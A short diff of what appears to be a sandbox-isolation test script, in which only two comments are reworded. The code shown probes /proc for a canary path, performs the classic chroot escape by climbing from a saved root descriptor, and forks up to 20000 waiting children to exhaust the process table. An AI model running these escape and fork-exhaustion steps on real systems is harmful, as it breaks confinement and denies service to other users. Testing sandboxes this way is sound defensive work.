@@ -126,7 +126,7 @@ canary = {canary:?}
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
     for way in ("root", "cwd"):
         print(pid, way, "seen" if os.path.exists("/proc/%s/%s%s" % (pid, way, canary)) else "hidden")
-# The classic: a descriptor of the old root, a chroot below, and up from the descriptor.
+# The usual escape: a descriptor of the old root, a chroot below, then up from the descriptor.
 old = os.open("/", os.O_RDONLY)
 os.mkdir("/tmp/jail"); os.chroot("/tmp/jail"); os.fchdir(old)
 for _ in range(64): os.chdir("..")
@@ -179,7 +179,7 @@ count = 0
 print(open("/proc/sys/kernel/pid_max").read().strip(), flush=True)
 try:
     while count < 20000:
-        # vfork-like thrift: the child waits for a signal and nothing else.
+        # The child only waits for a signal, which needs little memory.
         if os.fork() == 0:
             signal.pause()
         count += 1
